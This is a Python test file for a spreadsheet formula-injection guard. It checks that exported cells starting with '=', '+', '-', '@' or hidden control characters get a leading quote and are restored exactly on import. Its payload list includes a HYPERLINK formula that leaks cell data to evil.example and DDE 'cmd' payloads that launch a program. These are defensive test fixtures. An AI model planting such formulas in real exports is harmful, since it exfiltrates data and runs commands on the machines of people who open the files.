"""The formula-injection guard of exports (CSV: a quote; XLSX: typed string cells, tests in
test_exporters.py) and its exact inverse on import."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clientbase.transfer.formulas import clean, neutralise, restore, string_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1 312 555 0142",
    "+13125550142",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_guarded_and_restored_exactly(payload):
    guarded = neutralise(payload)
    assert guarded == "'" + payload
    assert restore(guarded) == payload


@pytest.mark.parametrize("harmless", ["Mike", "mike@example.com", "1 Main St", "", " ", "50 - 60", "a=b"])
def test_harmless_text_is_left_alone(harmless):
    assert neutralise(harmless) == harmless
    assert restore(harmless) == harmless


def test_text_that_starts_with_a_quote_survives_the_round_trip():
    for text in ["'=1+1", "'hello", "'", "''"]:
        assert restore(neutralise(text)) == text


def test_a_quote_a_user_typed_before_ordinary_text_is_kept():
    assert restore("'hello") == "'hello"
    assert restore("'=1+1") == "=1+1"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\x01\x00\u200b a1"), max_size=6) | st.text(max_size=20))
def test_restore_inverts_neutralise_and_string_cell_for_every_text(text):
    assert restore(neutralise(text)) == clean(text)
    assert restore(string_cell(text)) == clean(text)
    guarded = neutralise(text)
    assert not guarded.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    visible = guarded.lstrip("".join(chr(c) for c in range(33)) + "\u200b")
    assert not visible.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("\x01=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("\x00+1", "'+1"),
        ("\x1f\x01@SUM(1)", "'@SUM(1)"),
        ("\n=1+1", "'\n=1+1"),
        (" \u200b\u202e-1", "' \u200b\u202e-1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("bell\x07 ok", "bell ok"),
    ],
)
def test_control_characters_go_before_the_guard_looks(text, guarded):
    """Cleaning after the guard would let `\x01=` lose its control character and run; whitespace,
    control and invisible format characters before a formula never hide it."""
    assert neutralise(text) == guarded


def test_xlsx_string_cells_get_no_quote_except_before_a_quote_restore_would_remove():
    assert string_cell("+13125550142") == "+13125550142"
    assert string_cell("=1+1") == "=1+1"
    assert string_cell("'=1+1") == "''=1+1"
    assert string_cell("'hello") == "'hello"
    assert string_cell("\x01=1") == "=1"
